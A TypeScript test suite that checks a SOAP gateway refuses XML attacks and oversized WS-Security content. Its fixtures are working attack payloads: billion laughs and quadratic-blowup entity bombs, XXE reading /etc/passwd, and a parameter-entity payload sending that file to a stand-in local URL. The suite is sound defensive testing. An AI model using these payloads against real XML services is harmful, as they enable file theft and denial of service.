/**
 * XML denial of service and entity attacks (SPEC §5 step 1), over real HTTP
 * with a real SQLite file: each is refused with 400 `Malformed SOAP
 * request` (Client), or 413 over max_body_bytes, and nothing is written.
 * Entity and depth bombs are refused by the pre-scan, before any DOM is
 * built: the parse returns the scanner's own refusal. Elapsed times go to
 * the test diagnostics (docs/hardening.md lists observed figures); no test
 * asserts a time.
 */
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test, type TestContext } from "node:test";
import { signEnvelope } from "../../src/wss/sign/index.js";
import { scanXmlLimits } from "../../src/xml/limits-scan.js";
import { xmlParser } from "../../src/xml/parse.js";
import { basicAuth, postSoap, soapEnvelope, startTestGateway, textOf, type TestGateway } from "../helpers/gateway.js";
import { makeCertificate } from "../helpers/openssl-certificate.js";
import { gatewayYaml, policyYaml, x509ProfileYaml } from "../helpers/wss-config.js";

const ALICE = basicAuth("alice", "alice-password");
const LIMITS = { maxXmlDepth: 128, maxXmlElements: 100_000, maxAttributesPerElement: 64 };
const MAX_BODY_BYTES = 4_194_304;
const PASSWD_LINE = /root:x?:0:0/;

const SOAP_OPEN = `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:tns="http://www.service-now.com/incident"><soapenv:Body><tns:insert>`;
const SOAP_CLOSE = `</tns:insert></soapenv:Body></soapenv:Envelope>`;
/** An insert whose Body carries `inner` as the operation's content. */
const insertWith = (inner: string) => `${SOAP_OPEN}${inner}${SOAP_CLOSE}`;

const BILLION_LAUGHS =
  `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n` +
  Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">\n`).join("") +
  `]>\n${insertWith("<short_description>&lol9;</short_description>")}`;
const QUADRATIC_BLOWUP =
  `<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "${"a".repeat(50_000)}">]>` +
  insertWith(`<short_description>${"&a;".repeat(30_000)}</short_description>`);
const XXE_FILE = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${insertWith("<short_description>&xxe;</short_description>")}`;
const XXE_PARAMETER =
  `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?%file;'>">%eval;%exfil;]>` +
  insertWith("<short_description>x</short_description>");
const EXTERNAL_DTD = `<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://127.0.0.1:9/evil.dtd">${insertWith("<short_description>x</short_description>")}`;
const DOCTYPE_IN_BODY = insertWith(`<short_description>x</short_description><!DOCTYPE x [<!ENTITY y "z">]>`);

function nested(depth: number, name = "a"): string {
  return `<${name}>`.repeat(depth) + `</${name}>`.repeat(depth);
}

describe("XML denial of service and entities over HTTP", () => {
  let gateway: TestGateway;
  let requestNumber = 0;
  before(async () => {
    gateway = await startTestGateway();
  });
  after(() => gateway.close());

  /** Posts `body`, asserts the 400 Client fault and that nothing was written; returns the refusal reason from the audit line. */
  async function refusedAsMalformed(t: TestContext, body: string | Buffer): Promise<string> {
    const rowsBefore = gateway.rows("incident").length;
    const requestId = `xml-dos-${requestNumber++}`;
    const started = performance.now();
    const response = await postSoap(gateway, "incident", body, { authorization: ALICE, headers: { "X-Request-Id": requestId } });
    const elapsedMs = performance.now() - started;
    t.diagnostic(`${Buffer.byteLength(body)} bytes refused in ${elapsedMs.toFixed(1)} ms`);
    assert.equal(response.status, 400, response.body);
    assert.equal(textOf(response.body, "faultcode"), "soapenv:Client");
    assert.equal(textOf(response.body, "faultstring"), "Malformed SOAP request");
    assert.equal(gateway.rows("incident").length, rowsBefore, "nothing written");
    const audit = gateway.logLines().find((line) => (line.audit as { requestId?: string } | undefined)?.requestId === requestId)?.audit;
    return String((audit as { reason?: unknown } | undefined)?.reason);
  }

  test("billion laughs (nested entities, 10^9 expansions) → 400, refused by the pre-scan before any DOM", async (t) => {
    assert.deepEqual(xmlParser.parse(BILLION_LAUGHS, LIMITS), { kind: "refused", reason: "DOCTYPE or entity declaration" });
    assert.deepEqual(scanXmlLimits(BILLION_LAUGHS, LIMITS), { kind: "refused", reason: "DOCTYPE or entity declaration" });
    assert.equal(await refusedAsMalformed(t, BILLION_LAUGHS), "DOCTYPE or entity declaration");
  });

  test("quadratic blowup (one 50 KB entity referenced 30,000 times) → 400, refused by the pre-scan", async (t) => {
    assert.deepEqual(xmlParser.parse(QUADRATIC_BLOWUP, LIMITS), { kind: "refused", reason: "DOCTYPE or entity declaration" });
    assert.equal(await refusedAsMalformed(t, QUADRATIC_BLOWUP), "DOCTYPE or entity declaration");
  });

  test("XXE: an external entity on file:///etc/passwd → 400; the file's content is never in the answer, the log or the store", async (t) => {
    assert.match(readFileSync("/etc/passwd", "utf8"), PASSWD_LINE, "the file the attack targets exists here");
    const logBefore = gateway.rawLog().length;
    assert.equal(await refusedAsMalformed(t, XXE_FILE), "DOCTYPE or entity declaration");
    const response = await postSoap(gateway, "incident", XXE_FILE, { authorization: ALICE });
    assert.doesNotMatch(response.body, PASSWD_LINE);
    assert.doesNotMatch(gateway.rawLog().slice(logBefore), PASSWD_LINE);
    assert.ok(gateway.rows("incident").every((row) => !PASSWD_LINE.test(JSON.stringify(row))));
  });

  test("XXE through parameter entities (out-of-band exfiltration) → 400, refused by the pre-scan", async (t) => {
    assert.equal(await refusedAsMalformed(t, XXE_PARAMETER), "DOCTYPE or entity declaration");
  });

  test("an external DTD (DOCTYPE SYSTEM URL) → 400, never fetched", async (t) => {
    assert.equal(await refusedAsMalformed(t, EXTERNAL_DTD), "DOCTYPE or entity declaration");
  });

  test("a DOCTYPE hidden inside the Body → 400", async (t) => {
    assert.equal(await refusedAsMalformed(t, DOCTYPE_IN_BODY), "DOCTYPE or entity declaration");
  });

  test("an entity reference with no declaration (&xxe;) → 400", async (t) => {
    assert.equal(await refusedAsMalformed(t, insertWith("<short_description>&xxe;</short_description>")), "not well-formed XML: entity not found:&xxe;");
  });

  test("nesting one deeper than max_xml_depth (129) → 400; exactly 128 passes the limits", async (t) => {
    // Envelope, Body and insert are 3 levels.
    assert.equal(xmlParser.parse(insertWith(nested(125)), LIMITS).kind, "parsed");
    const overLimit = insertWith(nested(126));
    assert.deepEqual(xmlParser.parse(overLimit, LIMITS), { kind: "refused", reason: "nesting deeper than 128" });
    assert.equal(await refusedAsMalformed(t, overLimit), "nesting deeper than 128");
  });

  test("100,000-deep nesting → 400, refused by the pre-scan before any DOM", async (t) => {
    const deep = insertWith(nested(100_000));
    assert.deepEqual(xmlParser.parse(deep, LIMITS), { kind: "refused", reason: "nesting deeper than 128" });
    assert.equal(await refusedAsMalformed(t, deep), "nesting deeper than 128");
  });

  test("an element flood (100,001 elements) → 400, refused by the pre-scan", async (t) => {
    const flood = insertWith("<a/>".repeat(100_001));
    assert.deepEqual(xmlParser.parse(flood, LIMITS), { kind: "refused", reason: "more than 100000 elements" });
    assert.equal(await refusedAsMalformed(t, flood), "more than 100000 elements");
  });

  test("an attribute flood (65 attributes on one element) → 400; 64 pass the limits", async (t) => {
    const attributes = (count: number) => Array.from({ length: count }, (_, i) => ` a${i}="${i}"`).join("");
    assert.equal(xmlParser.parse(insertWith(`<x${attributes(64)}/>`), LIMITS).kind, "parsed");
    assert.equal(await refusedAsMalformed(t, insertWith(`<x${attributes(65)}/>`)), "more than 64 attributes on one element");
  });

  test("a namespace-declaration flood (1,000 xmlns on one element) → 400", async (t) => {
    const declarations = Array.from({ length: 1000 }, (_, i) => ` xmlns:n${i}="urn:n${i}"`).join("");
    assert.equal(await refusedAsMalformed(t, insertWith(`<x${declarations}/>`)), "more than 64 attributes on one element");
  });

  test("a body one byte over max_body_bytes → 413, nothing written", async (t) => {
    const padding = MAX_BODY_BYTES + 1 - Buffer.byteLength(insertWith("<short_description></short_description>"));
    const body = insertWith(`<short_description>${"x".repeat(padding)}</short_description>`);
    assert.equal(Buffer.byteLength(body), MAX_BODY_BYTES + 1);
    const rowsBefore = gateway.rows("incident").length;
    const started = performance.now();
    const response = await postSoap(gateway, "incident", body, { authorization: ALICE });
    t.diagnostic(`${MAX_BODY_BYTES + 1} bytes refused in ${(performance.now() - started).toFixed(1)} ms`);
    assert.equal(response.status, 413);
    assert.equal(response.body, `body over ${MAX_BODY_BYTES} bytes\n`);
    assert.equal(gateway.rows("incident").length, rowsBefore);
  });
});

describe("oversized and nested WS-Security content over HTTP", () => {
  let gateway: TestGateway;
  let signed: string;
  const WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd";
  before(async () => {
    const partner = makeCertificate(mkdtempSync(join(tmpdir(), "wss-xml-dos-")), "partner", { key: "rsa2048" });
    gateway = await startTestGateway({
      files: {
        gateway: gatewayYaml(),
        profiles: `profiles:\n${x509ProfileYaml("Partner certificate", "certs/partner.pem")}`,
        policies: `policies:\n${policyYaml(["Partner certificate"])}`,
      },
      extra: { "certs/partner.pem": partner.certPem },
    });
    signed = signEnvelope(soapEnvelope("incident", "insert", "<number>SIGNED</number>"), { key: partner.keyPem, cert: partner.certPem, timestampSeconds: 300 });
  });
  after(() => gateway.close());

  async function faultOf(t: TestContext, body: string): Promise<{ status: number; fault: string | undefined }> {
    const started = performance.now();
    const response = await postSoap(gateway, "incident", body, { authorization: ALICE });
    t.diagnostic(`${Buffer.byteLength(body)} bytes answered ${response.status} in ${(performance.now() - started).toFixed(1)} ms`);
    return { status: response.status, fault: textOf(response.body, "faultstring") };
  }

  test("a 2.7 MB base64 BinarySecurityToken in place of the signer's → Failed to authenticate WS-Security, nothing written", async (t) => {
    const huge = Buffer.alloc(2_000_000, 0x5a).toString("base64");
    const body = signed.replace(/(<wsse:BinarySecurityToken[^>]*>)[^<]*/, `$1${huge}`);
    assert.ok(Buffer.byteLength(body) > 2_600_000);
    assert.deepEqual(await faultOf(t, body), { status: 500, fault: "Failed to authenticate WS-Security" });
    assert.deepEqual(gateway.rows("incident"), []);
  });

  test("100 Security headers nested in the Header → Failed to extract principal(s) from request, nothing written", async (t) => {
    const nestedSecurity = `<wsse:Security xmlns:wsse="${WSSE}">`.repeat(100) + `</wsse:Security>`.repeat(100);
    const body = signed.replace("</soapenv:Header>", `${nestedSecurity}</soapenv:Header>`);
    assert.deepEqual(await faultOf(t, body), { status: 500, fault: "Failed to extract principal(s) from request" });
    assert.deepEqual(gateway.rows("incident"), []);
  });

  test("200 nested Security headers → 400 Malformed SOAP request (depth limit), nothing written", async (t) => {
    const nestedSecurity = `<wsse:Security xmlns:wsse="${WSSE}">`.repeat(200) + `</wsse:Security>`.repeat(200);
    const body = signed.replace("</soapenv:Header>", `${nestedSecurity}</soapenv:Header>`);
    assert.deepEqual(await faultOf(t, body), { status: 400, fault: "Malformed SOAP request" });
    assert.deepEqual(gateway.rows("incident"), []);
  });

  test("the signed request itself is admitted (the fixture is sound)", async (t) => {
    assert.deepEqual(await faultOf(t, signed), { status: 200, fault: undefined });
    assert.deepEqual(gateway.rows("incident").map((row) => row.number), ["SIGNED"]);
  });
});
